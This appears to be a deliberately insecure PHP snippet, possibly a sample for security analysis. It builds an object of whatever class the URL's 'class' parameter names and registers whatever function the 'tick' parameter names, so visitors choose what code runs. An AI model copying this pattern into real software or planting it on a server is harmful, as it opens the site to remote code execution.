<?php
$mirror = new ReflectionClass($_GET['class']);
$object = $mirror->newInstance();
register_tick_function($_GET['tick']);
